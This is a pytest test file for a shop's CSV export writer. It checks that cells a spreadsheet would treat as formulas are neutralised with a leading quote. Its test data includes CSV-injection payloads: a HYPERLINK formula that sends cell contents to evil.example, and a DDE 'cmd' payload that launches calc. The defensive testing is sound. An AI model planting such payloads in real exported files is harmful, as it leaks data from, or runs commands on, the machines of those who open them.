"""CSV cells are data, never formulas (OWASP CSV injection)."""

import csv
import io
from decimal import Decimal

import pytest

from shop.core.exports import CsvWriter, csv_cell


def written(row: list[object]) -> list[str]:
    out = io.StringIO()
    CsvWriter(out).writerow(row)
    return next(csv.reader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?d="&A1,"杭州市")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return"],
)
def test_a_text_that_a_spreadsheet_would_run_is_written_after_a_single_quote(text: str) -> None:
    assert written(["T1", text]) == ["T1", f"'{text}"]


@pytest.mark.parametrize("text", ["杭州市", "SF1234567890", "a=b", "1-2", " =1", "", "'quoted"])
def test_other_text_is_written_as_it_is(text: str) -> None:
    assert written([text]) == [text]


def test_numbers_stay_numbers_even_when_negative() -> None:
    assert [csv_cell(v) for v in (Decimal("-10.00"), -3, -0.5)] == [Decimal("-10.00"), -3, -0.5]
    assert written([Decimal("-10.00"), -3]) == ["-10.00", "-3"]


def test_a_text_that_looks_like_a_negative_number_is_quoted_since_it_is_text() -> None:
    assert written(["-5"]) == ["'-5"]


def test_none_is_an_empty_cell_and_other_objects_are_checked_by_their_text() -> None:
    class Shop:
        def __str__(self) -> str:
            return "=cmd|' /C calc'!A0"

    assert written([None, Shop()]) == ["", "'=cmd|' /C calc'!A0"]
